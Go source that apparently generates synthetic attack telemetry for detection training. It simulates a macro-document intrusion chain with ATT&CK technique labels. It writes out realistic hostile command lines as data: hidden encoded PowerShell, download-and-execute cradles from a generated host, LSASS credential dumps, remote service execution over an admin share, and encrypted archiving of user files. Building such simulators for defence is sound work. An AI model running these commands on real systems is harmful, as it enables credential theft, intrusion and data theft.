package awareness

// macroChain: a document with a macro starts a script, which fetches an implant; the
// implant reads credentials, moves to a server and carries data out over its channel.
func macroChain(c *chain) {
	s, h := c.s, c.victim("finance", "hr", "sales", "marketing", "legal")
	home, drop := s.w.sites.fresh(c.r), c.hideout(h, ".exe")
	var word, script, implant *process
	attachment := `C:\Users\` + h.owner.name + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\` + c.r.letters(base64ch[:26], 8) + `\` + pick(c.r, documentWords)
	c.do("T1566.001", h, func(t int64) {
		s.write(t, h.base.outlook, attachment+".docm")
		word = s.run(t+9*second, h.base.outlook, office+"WINWORD.EXE", `"`+office+`WINWORD.EXE" /n "`+attachment+`.docm" /o`, h.owner.name)
		s.load(t+11*second, word, `C:\Program Files\Common Files\Microsoft Shared\VBA\VBA7.1\VBE7.DLL`, true)
	})
	// Office starts an interpreter. The finance look-alike does too, from a share.
	c.pause(20, 60)
	technique, image, command := c.macroScript(home)
	c.do(technique, h, func(t int64) { script = s.run(t, word, image, command, "") })
	c.pause(4, 20)
	c.do("T1105", h, func(t int64) {
		s.web(t, h, request{site: home, uri: "/" + c.r.letters(lowerNum, 8), sent: 300, received: c.r.between(300_000, 2_000_000), proc: script})
		s.write(t+3*second, script, drop)
		implant = s.run(t+5*second, script, drop, `"`+drop+`"`, "")
	})
	c.pause(10, 40)
	get := func() *process { return implant }
	c.beacon(h, get, home, c.t+c.r.wait(180, 360))
	// Minutes to hours later somebody is at the keyboard.
	c.wait(6, 25)
	c.look(h, get, "T1033", "T1482", "T1069.002")
	c.wait(10, 40)
	c.dumpLSASS(h, get)
	c.wait(10, 45)
	target := c.server(appServer)
	c.serviceMove(h, target, pick(c.r, s.w.users).name)
	c.wait(15, 50)
	c.pack(h, get)
	// Out over the channel that is there already: the address is the beacon's.
	c.wait(3, 15)
	c.do("T1041", h, func(t int64) {
		for i := range 3 + c.r.int64n(6) {
			s.web(t+i*40*second, h, request{site: site{home.name, home.addr, true}, sent: c.r.between(18_000_000, 60_000_000), received: 900, cached: true, proc: implant})
		}
	})
}

// macroScript is what the macro runs.
func (c *chain) macroScript(home site) (technique, image, command string) {
	switch c.variant(4) {
	case 0:
		return "T1059.001", psExe, "powershell.exe -nop -w hidden -enc " + c.r.letters(base64ch, 240)
	case 1:
		return "T1059.001", psExe, `powershell.exe -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://` + home.name + `/a')"`
	case 2:
		return "T1059.005", sys32 + "wscript.exe", `wscript.exe "C:\Users\Public\` + c.r.letters(lower, 6) + `.vbs"`
	default:
		return "T1059.003", sys32 + "cmd.exe", `cmd.exe /c curl -s -o %TEMP%\` + c.r.letters(lower, 5) + `.tmp http://` + home.name + `/` + c.r.letters(lower, 4)
	}
}

// dumpLSASS reads credentials out of the LSASS process in one of several ways.
func (c *chain) dumpLSASS(h *host, proc func() *process) {
	s, lsass := c.s, sys32+"lsass.exe"
	out := c.hideout(h, ".dmp")
	way := c.variant(4)
	if c.quiet && c.s.split == Test {
		way = 3
	}
	c.do("T1003.001", h, func(t int64) {
		p := proc()
		switch way {
		case 0:
			s.load(t, p, sys32+"dbghelp.dll", true)
			s.open(t+second, p, lsass, "0x1010")
		case 1:
			p = s.run(t, p, sys32+"rundll32.exe", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 `+out+` full`, `NT AUTHORITY\SYSTEM`)
			s.open(t+second, p, lsass, "0x1fffff")
			s.write(t+2*second, p, out)
		case 2:
			tool := c.hideout(h, ".exe")
			p = s.run(t, p, tool, `"`+tool+`" -accepteula -ma lsass.exe `+out, `NT AUTHORITY\SYSTEM`)
			s.open(t+second, p, lsass, "0x1fffff")
			s.write(t+3*second, p, out)
		default:
			masked := *p // a copy of the implant under an honest name
			masked.image = `C:\Program Files\Common Files\` + pick(s.r, nameTails) + `\service.exe`
			s.open(t, &masked, lsass, "0x1438")
			s.write(t+second, &masked, out)
		}
	})
}

// serviceMove copies a program to a server's admin share and starts it as a service:
// T1021.002 and T1569.002 on the target.
func (c *chain) serviceMove(from, target *host, as string) {
	s := c.s
	name := c.r.letters(base64ch[:52], 8)
	binary := `C:\Windows\` + name + `.exe`
	command := `%SystemRoot%\` + name + `.exe`
	if c.variant(3) == 2 {
		command = `%COMSPEC% /Q /c echo dir ^> \\127.0.0.1\C$\__out 2^>^&1 > %TEMP%\run.bat & %COMSPEC% /Q /c %TEMP%\run.bat`
		binary = sys32 + "cmd.exe"
	}
	c.do("T1021.002", target, func(t int64) {
		s.smb(t, from, target, c.r.between(200_000, 900_000), 5_000, as)
		s.event(t+90*millisecond, target, 5140, security, field{"SubjectUserName", as}, field{"ShareName", `\\*\ADMIN$`}, field{"IpAddress", from.at(t).String()})
		s.write(t+400*millisecond, target.base.system, `C:\Windows\`+name+`.exe`)
	})
	c.pause(2, 6)
	c.do("T1569.002", target, func(t int64) {
		s.event(t, target, 7045, systemCh, field{"ServiceName", name}, field{"ImagePath", command}, field{"AccountName", "LocalSystem"})
		s.run(t+300*millisecond, target.base.services, binary, command, `NT AUTHORITY\SYSTEM`)
	})
}

// pack puts collected files into an archive (T1560.001).
func (c *chain) pack(h *host, proc func() *process) {
	s, out, secret := c.s, c.hideout(h, ""), c.r.letters(lowerNum, 8)
	way := c.variant(3)
	c.do("T1560.001", h, func(t int64) {
		p := proc()
		switch way {
		case 0:
			tool := c.hideout(h, ".exe")
			p = s.run(t, p, tool, `"`+tool+`" a -r -hp`+secret+` `+out+`.dat C:\Users\*.docx C:\Users\*.xlsx`, "")
		case 1:
			p = s.run(t, p, `C:\Program Files\7-Zip\7z.exe`, `7z.exe a -mhe=on -p`+secret+` `+out+`.7z C:\Users`, "")
		default:
			p = s.run(t, p, psExe, `powershell.exe -c "Compress-Archive -Path C:\Users\*\Documents -DestinationPath `+out+`.zip"`, "")
		}
		s.write(t+c.r.between(5, 40)*second, p, out+[]string{".dat", ".7z", ".zip"}[way])
	})
}
